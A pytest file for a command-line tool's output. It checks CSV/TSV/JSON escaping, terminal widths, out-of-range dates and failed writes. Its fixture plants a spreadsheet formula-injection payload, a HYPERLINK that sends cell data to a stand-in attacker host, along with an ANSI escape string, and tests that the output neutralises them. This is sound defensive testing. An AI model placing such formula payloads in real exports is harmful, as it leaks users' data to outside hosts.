"""The command line's output on a real database: formats, escaping, widths, refused writes, and values
beyond Python's range (CliRunner, in-process)."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from sqlalchemy import text

from gmctl.output_cells import read_tsv_field, restore_formula
from tests.conftest import TtyStringIO, invoke
from tests.helpers.accounts import make_user, sign_in
from tests.requests.conftest import add_request

FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&B2,"Fix")'
EVIL = "\x1b[31mred\x1b[0m"


@pytest.fixture
def desk(env, session):
    admin = make_user(session, "boss", staff=True, roles=("admin",), first_name="Adaeze", last_name="Okafor")
    sign_in(env, session, admin)
    customer = make_user(session, "olaniyi", first_name=FORMULA_NAME, last_name="Adébáyọ̀",
                         phone="+2348031234567")
    make_user(session, "escaper", first_name=EVIL, last_name="Obi")
    add_request(session, customer.id, title="Tab\there", description="line one\nline two \\ and a backslash")
    add_request(session, customer.id, title="=1+1", description="-2+3\r\nCRLF")
    add_request(session, customer.id, title="Plain", description=EVIL)
    return admin


def test_users_list_csv_neutralises_the_formula_name_and_keeps_the_phone(cli, desk):
    result = cli("users", "list", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    olaniyi = next(r for r in rows if r["username"] == "olaniyi")
    assert olaniyi["name"].startswith("'=HYPERLINK(")
    assert restore_formula(olaniyi["name"]) == f"{FORMULA_NAME} Adébáyọ̀"
    assert olaniyi["phone"] == "'+2348031234567"
    assert olaniyi["id"].isdigit()


def test_raw_cells_anywhere_on_the_line_turns_the_guard_off(cli, desk):
    result = cli("users", "list", "--format", "csv", "--raw-cells")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert next(r for r in rows if r["username"] == "olaniyi")["name"] == f"{FORMULA_NAME} Adébáyọ̀"


def test_requests_export_tsv_is_one_record_per_line(cli, desk):
    result = cli("requests", "export", "--format", "tsv")
    assert result.exit_code == 0, result.stderr
    lines = result.stdout.split("\n")[:-1]
    assert len(lines) == 4
    assert len({line.count("\t") for line in lines}) == 1
    header = lines[0].split("\t")
    descriptions = {read_tsv_field(line.split("\t")[header.index("description")]) for line in lines[1:]}
    assert descriptions == {"line one\nline two \\ and a backslash", "'-2+3\r\nCRLF", EVIL}


def test_piped_requests_list_is_tsv_with_constant_fields(cli, desk):
    result = cli("requests", "list")
    lines = result.stdout.split("\n")[:-1]
    assert len(lines) == 4 and {line.count("\t") for line in lines} == {lines[0].count("\t")}
    assert any("Tab\\there" in line for line in lines) and any("\t'=1+1\t" in line for line in lines)


def test_json_is_untouched(cli, desk):
    result = cli("--format", "json", "users", "list")
    names = {u["username"]: u["name"] for u in json.loads(result.stdout)}
    assert names["olaniyi"] == f"{FORMULA_NAME} Adébáyọ̀" and names["escaper"] == f"{EVIL} Obi"
    assert "\x1b" not in result.stdout  # the escape is \u001b in the JSON text


def terminal(make_env, **environ):
    out = TtyStringIO()
    err = io.StringIO()
    return make_env(out=out, err=err, environ={"NO_COLOR": "1", **environ}), out, err


@pytest.mark.parametrize("width", ["0", "60", "100", "120"])
def test_users_list_on_a_terminal_fits_and_shows_a_chosen_set_of_columns(make_env, session, desk, width):
    env, out, err = terminal(make_env, COLUMNS=width)
    sign_in(env, session, desk)
    result = invoke(env, "users", "list")
    assert result.exit_code == 0, err.getvalue()
    lines = out.getvalue().splitlines()
    shown = 80 if width == "0" else int(width)
    assert len(lines) == 4 and all(len(line) <= shown for line in lines)
    header = re.split(r"\s{2,}", lines[0].strip())
    assert header[:2] == ["id", "username"] and "superuser" not in header and "mfa" not in header
    assert 6 <= len(header) <= 8 or shown < 80
    assert "\x1b" not in out.getvalue() and "\\x1b[31m" in out.getvalue()


@pytest.mark.parametrize("spelling", [["--wide"], ["-o", "wide"], ["-owide"], ["--output=wide"]])
def test_wide_shows_every_column(make_env, session, desk, spelling):
    env, out, err = terminal(make_env, COLUMNS="120")
    sign_in(env, session, desk)
    from gmctl.cli import hoist_global_options

    argv = hoist_global_options(["users", "list", *spelling])
    assert "--wide" in argv
    result = invoke(env, *argv)
    assert result.exit_code == 0, err.getvalue()
    header = out.getvalue().splitlines()[0].split()
    for column in ("superuser", "mfa", "phone", "created"):
        assert column in header


def test_requests_show_reads_messages_as_a_conversation_at_80(make_env, session, desk):
    from gmctl.db.models import Message

    customer_id = session.execute(text("SELECT id FROM users WHERE username = 'olaniyi'")).scalar()
    request_id = session.execute(text("SELECT min(id) FROM service_requests")).scalar()
    session.add(Message(sender_id=customer_id, recipient_id=desk.id, service_request_id=request_id,
                        subject="Gate", content="Please call me before you come; " * 6 + EVIL,
                        message_type="user"))
    session.flush()
    env, out, err = terminal(make_env, COLUMNS="80")
    sign_in(env, session, desk)
    result = invoke(env, "requests", "show", str(request_id))
    assert result.exit_code == 0, err.getvalue()
    screen = re.sub(r"\x1b\[[0-9;]*m", "", out.getvalue())  # rich's own styles (bold, dim)
    assert all(len(line.rstrip()) <= 80 for line in screen.splitlines())
    conversation = screen[screen.index("messages:"):]
    lines = conversation.splitlines()
    assert lines[1].split()[0] == "olaniyi" and "boss" in lines[1] and "WAT" not in lines[1]
    assert "Please call me" in conversation and "\x1b" not in screen and "\\x1b[31mred" in conversation


def test_a_time_beyond_pythons_range_displays(cli, session, desk):
    request_id = session.execute(text("SELECT min(id) FROM service_requests")).scalar()
    session.execute(text("UPDATE service_requests SET scheduled_date = '294276-06-01 10:00+00', "
                         "completed_at = 'infinity' WHERE id = :id"), {"id": request_id})
    for fmt in ("json", "tsv", "csv", "table"):
        result = cli("--format", fmt, "requests", "show", str(request_id))
        assert result.exit_code == 0, result.stderr
        assert "294276-06-01 10:00:00+00" in result.stdout and "infinity" in result.stdout
    listed = cli("--format", "json", "requests", "list", "--status", "all")
    assert listed.exit_code == 0, listed.stderr


def test_users_export_to_dev_full_is_a_clear_error(cli, desk):
    result = cli("users", "export", "olaniyi", "--output", "/dev/full")
    assert result.exit_code == 1
    assert "cannot write /dev/full: No space left on device" in result.stderr
    assert "unexpected" not in result.stderr
